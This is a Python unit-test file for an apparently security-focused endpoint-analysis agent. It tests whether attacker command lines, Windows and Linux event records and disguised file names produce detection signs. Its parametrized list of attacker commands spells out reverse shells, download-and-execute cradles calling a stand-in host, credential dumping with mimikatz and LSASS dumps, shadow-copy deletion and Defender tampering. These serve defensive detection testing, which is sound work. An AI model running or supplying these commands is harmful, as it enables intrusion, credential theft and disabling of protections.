"""The knowledge files: well formed, honest in their weights, and right about commands and events known to everybody."""

from __future__ import annotations

import re
from typing import Any

import pytest

from services.agents.roster.endpoint_analyst import judgement as endpoint
from services.agents.roster.endpoint_analyst.lineage import odd_pairs
from services.agents.toolkit import behaviours, eventsigns
from services.agents.toolkit.behaviours import behaviours_in
from services.agents.toolkit.eventsigns import event_signs, facts_of, relevant
from services.agents.toolkit.signs import MALICIOUS_FROM, SUSPICIOUS_FROM, WEAK_BELOW, combined_weight
from tests.unit.agents.agent_kit import citation, event

TECHNIQUE = re.compile(r"T\d{4}(\.\d{3})?")


def weight_of(command: str) -> float:
    return combined_weight(behaviour.weight for behaviour in behaviours_in(command))


def test_every_piece_of_knowledge_names_techniques_and_a_weight() -> None:
    known: list[Any] = [*behaviours.known(), *eventsigns.known()]
    for item in known:
        assert 0 < item.weight < 1, item.id
        assert item.techniques, item.id
        assert all(TECHNIQUE.fullmatch(technique) for technique in item.techniques), item.id
        assert item.text == item.text.strip(), item.id
        assert item.text, item.id


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsS http://192.0.2.7/x.sh | sh",
        "bash -c 'wget -qO- 192.0.2.7/x | sudo bash'",
        "echo aWQ= | base64 -d | bash",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "nc -e /bin/sh 192.0.2.7 4444",
        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"192.0.2.7\",1));os.dup2(s.fileno(),0)'",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 1234 >/tmp/f",
        "useradd -o -u 0 -g 0 backup2",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full",
        "procdump.exe -ma lsass.exe out.dmp",
        "reg save HKLM\\SAM C:\\t\\sam.hiv",
        "vssadmin.exe delete shadows /all /quiet",
        "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll",
        "mshta.exe javascript:a=GetObject('script:http://192.0.2.7/a')",
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
        "powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
        'wmic os get /format:"http://192.0.2.7/a.xsl"',
        "certutil -urlcache -split -f http://192.0.2.7/a.exe a.exe",
        "mimikatz.exe privilege::debug sekurlsa::logonpasswords",
        'schtasks /create /tn u /sc minute /tr "powershell -w hidden -c iex"',
        "conhost.exe --headless powershell -File C:\\Users\\a\\x.ps1",
        "cmd /c start /min %TEMP%\\a.bat",
        "SystemSettingsAdminFlows.exe Defender RTP 1",
        "wmic product where \"name like '%Endpoint Security%'\" call uninstall /nointeractive",
        "mklink C:\\Windows\\System32\\osk.exe C:\\Windows\\System32\\cmd.exe",
        "WerFaultSecure.exe /h /pid 700 /tid 704 /encfile 120 /cancel 132 /type 268310",
        "kdu.exe -prv 1 -map a.sys",
        'AdvancedRun.exe /EXEFilename "sc.exe" /CommandLine "stop WinDefend" /RunAs 8 /Run',
        'schtasks /change /tn "\\Microsoft\\Windows\\SystemRestore\\SR" /disable',
        '"C:\\Users\\a\\Ann\u202egepj.exe"',
    ],
)
def test_an_attackers_command_is_suspicious_by_itself(command: str) -> None:
    assert weight_of(command) >= SUSPICIOUS_FROM


@pytest.mark.parametrize(
    "command",
    [
        "wget -q -O releases/site.css http://192.0.2.9/site.css && ls -l releases",
        "apt-get install -y nginx",
        "systemctl restart nginx",
        "curl -s http://127.0.0.1/health",
        "curl -s http://127.0.0.1/api | python3 -m json.tool",
        "tar czf /var/backups/www.tar.gz /var/www",
        "ssh deploy@web02 systemctl reload nginx",
        "crontab -l",
        "nano /etc/cron.d/backup",
        "usermod -aG docker carol",
        "chmod 644 /var/www/index.html",
        "chmod +x /usr/local/bin/backup.sh",
        "find /var/log -name '*.gz' -mtime +30 -delete",
        "journalctl -u nginx --since yesterday",
        "base64 /etc/hostname",
        "sudo -l",
        "cat /etc/passwd",
        "git pull --rebase",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
        "C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1",
        "msiexec.exe /i C:\\install\\agent.msi /qn",
        "ipconfig /all",
        "net use Z: \\\\files\\team",
        "powershell.exe Get-Service | Sort-Object Status",
        "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
        "schtasks /query /fo list",
        "netsh advfirewall firewall add rule name=web dir=in action=allow protocol=TCP localport=443",
        "reg query HKLM\\Software\\Vendor /v Version",
        "sc query wuauserv",
        "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie",
        "certutil -addstore Root C:\\pki\\company.cer",
        "chrome.exe --headless --print-to-pdf=C:\\reports\\a.pdf https://intranet.example.com/report",
        "cmd /c start /b notepad.exe",
        "notepad.exe C:\\Users\\a\\Ann\u202egepj.exe",
        "cmd /c tasklist | findstr virus",
        "schtasks /change /tn Backup /disable",
        "wmic product where \"name='Vendor Viewer'\" call uninstall",
        "C:\\Windows\\system32\\WerFault.exe -u -p 4024 -s 1200",
    ],
)
def test_an_administrators_command_is_not_suspicious_by_itself(command: str) -> None:
    assert weight_of(command) < SUSPICIOUS_FROM


STARTED: dict[str, Any] = {
    "event.category": ["process"], "event.type": ["start"], "event.action": "process-created",
}  # fmt: skip
REPLICATION = {"event.code": "4662", "winlog.event_data.Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"}
ON_LSASS = {"event.action": "process-accessed", "winlog.event_data.TargetImage": "C:\\Windows\\system32\\lsass.exe"}
RUN_KEY = "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"
SYSTEM_PROGRAM = "C:\\Windows\\system32\\svchost.exe"
STRANGER = "C:\\Users\\a\\x.exe"
AMSI_KEY = "HKU\\S-1\\Software\\Microsoft\\Windows Script\\Settings\\AmsiEnable"
VALUE_SET = {"event.code": "13", "event.action": "registry-value-set"}
PATH_RECORD = {"auditd.type": "PATH", "event.outcome": "success"}
TELLING: list[tuple[str, dict[str, Any]]] = [
    ("dcsync", {**REPLICATION, "user.name": "bob"}),
    ("lsass-read", {**ON_LSASS, "process.executable": STRANGER, "winlog.event_data.GrantedAccess": "0x1010"}),
    ("lsass-dump-file", {"event.category": ["file"], "file.path": "C:\\Temp\\lsass.DMP"}),
    ("remote-thread", {"event.action": "remote-thread-created", "process.executable": STRANGER}),
    ("autostart-interpreter", {"event.code": "13", "registry.path": RUN_KEY, "registry.data.strings": "powershell"}),
    ("service-of-interpreter", {"event.code": "7045", "process.command_line": "%COMSPEC% /c echo x"}),
    ("log-cleared", {"event.code": "1102", "event.action": "audit-log-cleared"}),
    ("renamed-program", {**STARTED, "process.pe.original_file_name": "PowerShell.EXE", "process.name": "notes.exe"}),
    ("system-name-elsewhere", {**STARTED, "process.executable": "C:\\Users\\a\\svchost.exe"}),
    ("shadow-touched", {**PATH_RECORD, "file.path": "/etc/shadow", "process.name": "cat"}),
    (
        "authorized-keys-changed",
        {**PATH_RECORD, "file.path": "/root/.ssh/authorized_keys", "event.type": ["creation"], "process.name": "sh"},
    ),
    ("program-in-temporary-folder", {**STARTED, "process.executable": "/tmp/x"}),
    ("root-by-service-account", {**STARTED, "user.name": "www-data", "user.effective.name": "root"}),
    ("wmi-subscription", {"event.action": "wmi-consumer", "winlog.event_data.Name": "x"}),
    ("protection-off-key", {**VALUE_SET, "registry.path": AMSI_KEY, "registry.data.strings": "DWORD (0x00000000)"}),
    ("protection-removed-key", {"event.code": "12", "event.type": ["deletion"], "registry.path": AMSI_KEY}),
    (
        "unlikely-writer",
        {"event.action": "file-created", "process.executable": "C:\\Office\\WINWORD.EXE", "file.path": "C:\\T\\a.exe"},
    ),
    ("control-item-elsewhere", {"event.action": "image-loaded", "dll.path": "C:\\Users\\a\\bthprops.cpl"}),
    ("maintenance-task-gone", {"event.code": "4701", "winlog.task_name": "\\Microsoft\\Windows\\SystemRestore\\SR"}),
]


@pytest.mark.parametrize(("kind", "fields"), TELLING, ids=[kind for kind, _ in TELLING])
def test_an_event_that_tells_of_an_attack_gives_its_sign(kind: str, fields: dict[str, Any]) -> None:
    told = event(**fields)
    assert kind in {sign.kind for sign in event_signs(told, citation({}))}
    assert relevant(told) is not None


@pytest.mark.parametrize(
    "fields",
    [
        {**REPLICATION, "user.name": "DC01$"},
        {**ON_LSASS, "process.executable": SYSTEM_PROGRAM, "winlog.event_data.GrantedAccess": "0x1000"},
        {**STARTED, "process.pe.original_file_name": "Cmd.Exe", "process.name": "cmd.exe"},
        {**STARTED, "process.executable": SYSTEM_PROGRAM},
        {**PATH_RECORD, "file.path": "/etc/shadow", "process.name": "sshd"},
        {**PATH_RECORD, "file.path": "/home/a/.ssh/authorized_keys", "event.type": ["info"], "process.name": "cat"},
        {"event.code": "13", "registry.path": "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Hostname"},
        {"event.code": "4624", "winlog.logon.type": "5"},
        {**VALUE_SET, "registry.path": AMSI_KEY, "registry.data.strings": "DWORD (0x00000001)"},
        {"event.action": "image-loaded", "dll.path": "C:\\Windows\\System32\\main.cpl"},
        {"event.action": "file-created", "file.path": "C:\\Windows\\System32\\winevt\\Logs\\System.evtx"},
        {"event.code": "4701", "winlog.task_name": "\\Backup", "user.name": "ada"},
    ],
)
def test_an_ordinary_event_gives_no_sign(fields: dict[str, Any]) -> None:
    assert facts_of(event(**fields)) == []


def test_what_everybody_does_weighs_little() -> None:
    everyday = event(**{**STARTED, "process.executable": "C:\\Users\\a\\Downloads\\tool.exe"})
    assert all(fact.weight < WEAK_BELOW for fact in facts_of(everyday))


def test_a_service_account_of_the_web_server_that_starts_a_shell_is_odd() -> None:
    assert [pair.id for pair in odd_pairs("w3wp", "cmd")] == ["web-server-shell"]
    assert odd_pairs("explorer", "cmd") == []


def test_many_different_questions_are_a_sign_and_one_asked_often_is_none() -> None:
    asked = ["whoami", "uname -a", "cat /etc/passwd", "hostname", "ip a", "ps aux", "sudo -l"]
    [sign] = endpoint.discovery_signs(asked, citation({}))
    assert sign.weight >= SUSPICIOUS_FROM
    assert endpoint.discovery_signs(["whoami"] * 20, citation({})) == []
    assert combined_weight([sign.weight]) < MALICIOUS_FROM


@pytest.mark.parametrize("fact", eventsigns.known(), ids=range(len(eventsigns.known())))
def test_a_fact_is_looked_up_by_something_that_it_asks_for(fact: eventsigns.Fact) -> None:
    by_value, by_field = eventsigns._lookup()
    fields = [field for field, facts in by_field.items() for _, known, *_ in facts if known is fact]
    values = [key for key, facts in by_value.items() for _, known, *_ in facts if known is fact]
    assert bool(fields) != bool(values)
    assert set(fields) <= fact.when.keys()
    for field, value in values:
        # Nothing else in the field can make the pattern hold.
        pattern = fact.when[field]
        assert re.fullmatch(pattern.strip("^$"), value, re.IGNORECASE)
        assert not re.search(pattern, f"{value}x", re.IGNORECASE)
        assert not re.search(pattern, f"x{value}", re.IGNORECASE)


@pytest.mark.parametrize(
    ("name", "told"),
    [("invoice\u202efdp.exe", True), ("\u202egnineb si siht\u202c payload.exe", False), ("invoice.pdf", False)],
)
def test_a_turned_name_is_told_where_it_hides_a_program(name: str, told: bool) -> None:
    seen = event("created", **{"event.action": "file-created", "file.path": f"C:\\Users\\eve\\Downloads\\{name}"})
    assert ("right-to-left-name" in {fact.id for fact in facts_of(seen)}) is told
